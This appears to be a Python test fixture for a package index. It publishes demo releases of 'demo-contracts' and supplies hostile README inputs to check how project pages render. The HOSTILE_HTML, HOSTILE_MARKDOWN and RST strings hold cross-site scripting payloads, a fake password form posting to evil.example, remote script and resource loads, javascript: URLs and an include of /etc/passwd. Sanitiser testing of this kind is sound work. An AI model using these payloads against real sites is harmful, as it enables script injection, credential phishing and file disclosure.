"""An index with everything that a page for people can show, and a hostile project beside it."""

import json

import httpx
from packaging.version import Version

from crucible_pipeline.contracts.load import load
from crucible_pipeline.contracts.model import Package
from crucible_pipeline.contracts.snapshot import dump
from crucible_pipeline.index.page import Status
from crucible_pipeline.index.server import Running
from index.attested import attestation, field, statement
from index.distributions import CLIENT, Members, metadata, post, sdist, wheel

README = """# demo-contracts

[![build](https://ci.example/badge.svg)](https://ci.example/demo) What the services agree on; see
[the concepts](#concepts), [the contracts](contracts/) and https://docs.example/contracts.

> [!WARNING]
> A release of another line does not talk to this one.

## Concepts

- [x] statuses, ~~numbers~~
- [ ] events

| limit | seconds |
| --- | ---: |
| timeout | 300 |

```python
from demo_contracts import EvaluationStatus  # too long for a narrow screen, and scrolled there
```

<details><summary>More</summary>

Nothing.

</details>
"""
CHANGELOG = b"# Changelog\n\n## 0.4.0\n\n- `firecracker` is an engine.\n"
HEAD = """Summary: What the services of the platform agree on
Requires-Python: >=3.11
License-Expression: Apache-2.0
Requires-Dist: pydantic>=2.5
Project-URL: Source, https://git.example/crucible/shared
Project-URL: Trap, javascript:alert(1)
Author-email: Platform team <platform@team.example>
Keywords: contracts,events
Description-Content-Type: text/markdown

"""
SCHEMA = """
openapi: 3.1.0
info: {title: Evaluations, version: "1"}
components:
  schemas:
    EvaluationEngine: {type: string, enum: [docker, gvisor%s]}
    EvaluationRequest:
      type: object
      required: [code]
      properties:
        code: {type: string}
        timeout: {type: integer, minimum: 1, maximum: %s}
"""
REFERENCE = b"<!DOCTYPE html><title>Reference</title><p>every type"


def contract(engines: str = "", maximum: int = 300) -> bytes:
    """A snapshot; each argument changes it."""
    package = Package("demo-contracts", "demo_contracts", "@demo/contracts")
    return dump(load({"evaluation.yaml": SCHEMA % (engines, maximum)}, package)).encode()


OLD, GROWN, TIGHTER = contract(), contract(", firecracker"), contract(", firecracker", 200)


def release(
    index: Running, version: str, snapshot: bytes, readme: str = "", *, attested: bool = False
) -> None:
    """Publish a wheel and a source distribution of demo-contracts."""

    def add(members: Members) -> None:
        members.append(("demo_contracts/contract.json", snapshot))
        members.append(("demo_contracts/reference.html", REFERENCE))

    more = f"{HEAD}{readme}"
    made = wheel("demo-contracts", version, more=more, before=add)
    over = {"attestations": field(attestation(statement(made)))} if attested else {}
    changelog = (f"demo_contracts-{version}/CHANGELOG.md", CHANGELOG)
    inside = metadata("demo-contracts", version, more)
    for answer in (
        post(index, made, over=over),
        post(index, sdist("demo-contracts", version, inside=inside, more=(changelog,))),
    ):
        assert answer.status_code == 200, answer.text


def report(
    index: Running, document: object, token: str | None = None, kind: str = "application/json"
) -> httpx.Response:
    """Tell the index who pins what."""
    secret = index.token if token is None else token
    headers = {"Content-Type": kind, **({"Authorization": f"Bearer {secret}"} if secret else {})}
    return CLIENT.post(f"{index.url}pins", content=json.dumps(document), headers=headers)


def pins(service: str, specifier: str | None, repository: str | None = None) -> dict[str, object]:
    """A report on demo-contracts."""
    found: dict[str, object] = {
        "service": service,
        "pins": [{"project": "demo-contracts", "specifier": specifier}],
    }
    return found if repository is None else {**found, "repository": repository}


def furnish(index: Running) -> None:
    """Publish it all."""
    for version, snapshot in (("0.3.0", OLD), ("0.3.1", OLD), ("0.4.0rc1", GROWN), ("0.4.0", TIGHTER)):
        release(index, version, snapshot, README, attested=version == "0.4.0")
    index.catalog.yank("demo-contracts", Version("0.3.1"), "the limit of a timeout was wrong")
    post(index, wheel("demo-client", more="Summary: Talks to the gateway\n"))
    post(index, wheel("house-style", more="Summary: Settings of linters\n"))
    index.catalog.set_status("house-style", Status("deprecated", "Use the template's settings"))
    post(index, wheel("leaked", more="Summary: Holds a key\n"))
    index.catalog.set_status("leaked", Status("quarantined", "A key was published with it"))
    for service, specifier in (
        ("storage", "==0.3.*"),
        ("worker", "==0.4.*"),
        ("api", "==0.3.1"),
        ("old", "<0.1"),
    ):
        answer = report(index, pins(service, specifier, f"https://git.example/{service}"))
        assert answer.status_code == 200, answer.text


HOSTILE_HTML = """
<script>document.title='pwned'</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<img src=x onerror="document.title='pwned'"><img src="https://evil.example/pixel.png" alt="the badge">
<svg onload="document.title='pwned'"><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
<form action="https://evil.example/"><input name=password><button>Log in</button></form>
<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css">
<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example/">
<object data="https://evil.example/x"></object><embed src="https://evil.example/x">
<video src="https://evil.example/x" autoplay></video>
<a href="javascript:document.title='pwned'">plain</a> <a href=" java&#10;script:alert(1)">split</a>
<a href="data:text/html,<script>alert(1)</script>">data</a> <a href="vbscript:x">vb</a>
<a href="//evil.example/x">other host</a>
<div style="position:fixed;inset:0;background:url(https://evil.example/x)" id="content" class="skip">
over</div>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<textarea></textarea><img src=x onerror=alert(1)>
<details open ontoggle="document.title='pwned'"><summary>more</summary>inside</details>
<p onclick="alert(1)">end of html</p>
"""
HOSTILE_MARKDOWN = f"""# Hostile <script>alert(1)</script>

[link](javascript:alert(1)) [quoted](<javascript:alert(1)>) ![image](javascript:alert(1)) ![badge](https://evil.example/b.png)
[ref]: javascript:alert(1)
[ref] <javascript:alert(1)> `<script>alert(1)</script>`

{HOSTILE_HTML}

end of markdown
"""
HOSTILE_RST = """Hostile
=======

`link <javascript:alert(1)>`_ and `other <https://fine.example>`_

.. image:: https://evil.example/pixel.png
   :alt: the badge

end of rst
"""
REFUSED_RST = """Hostile
=======

.. raw:: html

   <script>document.title='pwned'</script>

.. include:: /etc/passwd

end of rst
"""
